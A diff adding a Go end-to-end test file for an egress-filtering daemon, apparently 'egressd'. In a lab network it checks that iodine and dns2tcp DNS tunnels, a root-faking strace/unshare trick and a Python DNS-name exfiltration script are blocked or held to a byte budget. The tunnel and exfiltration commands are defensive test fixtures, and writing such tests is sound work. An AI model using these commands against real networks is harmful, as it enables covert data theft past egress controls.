@@ -1,0 +1,202 @@
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"math"
+	"net"
+	"os/exec"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+
+	"github.com/egressd/egressd/internal/lab"
+)
+
+// iodineServer answers for i.tunnel.test, by iodined, which has a network behind it.
+const iodineServer = "151.101.1.54"
+
+// namesPolicy allows what is below both domains that end at a tunnel's server.
+const namesPolicy = "version: 1\nallow: [\"*.allowed.test\", \"*.tunnel.test\"]\n"
+
+// serveIodine runs iodined in the internet.
+func (d *daemon) serveIodine(t *testing.T) {
+	t.Helper()
+	ctx, cancel := context.WithCancel(context.Background())
+	server := exec.CommandContext(ctx, "/usr/sbin/iodined", "-f", "-c", "-P", "x", "-l", iodineServer, "172.31.7.1/24", "i.tunnel.test")
+	var talk bytes.Buffer
+	server.Stdout, server.Stderr = &talk, &talk
+	if err := d.world.Internet.Start(server); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cancel(); server.Wait() })
+	if !eventually(5*time.Second, func() bool {
+		c, err := d.world.Internet.ListenPacket("udp4", iodineServer+":53")
+		if err == nil {
+			c.Close()
+		}
+		return err != nil // the server has the port
+	}) {
+		t.Fatalf("no server: %s", talk.String())
+	}
+	d.world.zone.delegate("tunnel.test", d.atServers)
+}
+
+// atServers puts a question to the server of its domain as it came.
+func (d *daemon) atServers(r *dns.Msg) *dns.Msg {
+	server := tunnelServer
+	if strings.HasSuffix(strings.ToLower(r.Question[0].Name), ".i.tunnel.test.") {
+		server = iodineServer
+	}
+	c, err := d.world.Internet.Dial("udp4", net.JoinHostPort(server, "53"))
+	if err != nil {
+		return nil
+	}
+	defer c.Close()
+	conn := &dns.Conn{Conn: c}
+	c.SetDeadline(time.Now().Add(2 * time.Second))
+	if conn.WriteMsg(r) != nil {
+		return nil
+	}
+	m, err := conn.ReadMsg()
+	if err != nil {
+		return nil
+	}
+	return m
+}
+
+// outside runs a script in a network without egressd, and returns what it says.
+func outside(t *testing.T, n *lab.Net, script string) string {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
+	defer cancel()
+	var out bytes.Buffer
+	cmd := exec.CommandContext(ctx, "sh", "-c", script)
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if err := n.Run(cmd); err != nil && cmd.ProcessState == nil {
+		t.Error(err)
+	}
+	return out.String()
+}
+
+// iodineKinds are the types that iodine has, and dnsKinds those of dns2tcp.
+var iodineKinds = []string{"NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"}
+
+const comesUp = "Connection setup complete"
+
+// TestEscapesByTunnelsBelowAWildcard has the programs themselves try to make a tunnel
+// to servers whose domain is allowed, through the name server of serve, and in run.
+// In run iodine is told that it has an interface, which only root would get.
+func TestEscapesByTunnelsBelowAWildcard(t *testing.T) {
+	covers(t, "DN-23")
+	d := start(t, withNames(namesPolicy))
+	d.serveTunnelFor(t, "t.tunnel.test")
+	d.serveIodine(t)
+	for _, kind := range []string{"NULL"} {
+		direct := outside(t, d.world.Gateway, fmt.Sprintf("timeout 4 /usr/sbin/iodine -f -r -m 200 -P x -T %s %s i.tunnel.test 2>&1", kind, resolverHost()))
+		if !strings.Contains(direct, comesUp) {
+			t.Fatalf("without egressd, by %s: %s", kind, direct)
+		}
+	}
+	if direct := d.unheld(t, dns2tcp("TXT", resolverHost())); !strings.Contains(direct, "through the tunnel") {
+		t.Fatalf("without egressd: %q", direct)
+	}
+	asked := d.world.zone.mark()
+	var all sync.WaitGroup
+	for _, kind := range iodineKinds {
+		all.Go(func() {
+			out := outside(t, d.world.Sandbox, fmt.Sprintf("timeout 3 /usr/sbin/iodine -f -r -m 200 -P x -T %s %s i.tunnel.test 2>&1", kind, lab.GatewayIPv4))
+			if strings.Contains(out, comesUp) || strings.Contains(out, "Server tunnel IP") || !strings.Contains(out, "Sending DNS queries") {
+				t.Errorf("iodine by %s: %s", kind, out)
+			}
+		})
+	}
+	for _, kind := range []string{"TXT", "KEY"} {
+		all.Go(func() {
+			if out := outside(t, d.world.Sandbox, dns2tcp(kind, lab.GatewayIPv4)); strings.Contains(out, "through") {
+				t.Errorf("dns2tcp by %s: %s", kind, out)
+			}
+		})
+	}
+	all.Wait()
+	for _, name := range d.world.zone.since(asked) {
+		if !strings.HasSuffix(name, ".tunnel.test") {
+			t.Errorf("asked for %s", name)
+		}
+	}
+	for user := range users {
+		script := fmt.Sprintf(`{ %s; %s; } & for k in %s; do timeout 3 %s strace -f -qq -o /dev/null -e trace=ioctl -e inject=ioctl:retval=0:when=1 /usr/sbin/iodine -f -r -m 200 -P x -T $k %s i.tunnel.test 2>&1 & done; wait; echo done`,
+			dns2tcp("TXT", tunnelServer), dns2tcp("KEY", tunnelServer), strings.Join(iodineKinds, " "), becomeRoot[user], iodineServer)
+		r := d.tries(t, user, escape{script: script, out: "done"})
+		if strings.Contains(r.out, comesUp) || strings.Contains(r.out, "through") || strings.Count(r.out, "Sending DNS queries") != len(iodineKinds) {
+			t.Errorf("%s, in run: %s", user, r.out)
+		}
+	}
+}
+
+// becomeRoot has iodine, which asks for root, go on.
+var becomeRoot = map[string]string{"root": "", "user": "unshare -Ur"}
+
+func resolverHost() string {
+	host, _, _ := net.SplitHostPort(resolver)
+	return host
+}
+
+func dns2tcp(kind, server string) string {
+	return fmt.Sprintf(`sleep 1 | timeout 3 dns2tcpc -T %s -t 1 -z t.tunnel.test -k k -r svc -l - %s 2>&1`, kind, server)
+}
+
+// TestHowMuchNamesCarryOut sends itself out in names until it is refused, and counts
+// what comes to the server of their domain: by long names about as much as the
+// budget says, by short ones more.
+func TestHowMuchNamesCarryOut(t *testing.T) {
+	for _, row := range []struct {
+		says          string
+		labels, label int
+		budget        int // in bytes; 0: that of who says nothing
+		most          float64
+	}{
+		{"long names", 3, 63, 0, 1.25},
+		{"names of eight characters", 1, 8, 256, 2},
+		{"names of three", 1, 3, 256, 3.5},
+	} {
+		t.Run(row.says, func(t *testing.T) {
+			text, budget := namesPolicy, 4096
+			if row.budget != 0 {
+				text, budget = text+fmt.Sprintf("limits: {dns_name_bytes: %d}\n", row.budget), row.budget
+			}
+			d := start(t, withNames(text))
+			d.world.zone.delegate("tunnel.test", func(r *dns.Msg) *dns.Msg { return new(dns.Msg).SetReply(r) })
+			asked := d.world.zone.mark()
+			out := outside(t, d.world.Sandbox, fmt.Sprintf(exfiltrate, lab.GatewayIPv4, row.labels, row.label))
+			if !strings.Contains(out, "ended") {
+				t.Errorf("no end: %q", out)
+			}
+			names := distinct(d.world.zone.since(asked))
+			carried := float64(len(names)*row.labels*row.label) * math.Log2(36) / 8
+			t.Logf("%d names carried %.0f bytes of a budget of %d", len(names), carried, budget)
+			if carried > row.most*float64(budget) || len(names) == 0 {
+				t.Errorf("%d names carried %.0f bytes", len(names), carried)
+			}
+		})
+	}
+}
+
+// exfiltrate asks for random names at a server, of so many labels of so many
+// characters, until enough of them were refused.
+const exfiltrate = `python3 -c '
+import random, socket, struct
+s = socket.socket(2, 2); s.connect(("%s", 53)); s.settimeout(5)
+refused = 0
+for i in range(5000):
+    name = b""
+    for _ in range(%d): name += bytes([%[3]d]) + bytes(random.choice(b"abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(%[3]d))
+    s.send(struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + name + bytes([1]) + b"e" + bytes([6]) + b"tunnel" + bytes([4]) + b"test" + bytes([0, 0, 1, 0, 1]))
+    try: refused += s.recv(512)[3] & 15 == 5
+    except OSError: continue
+    if refused > 20: print("ended"); break
+'`
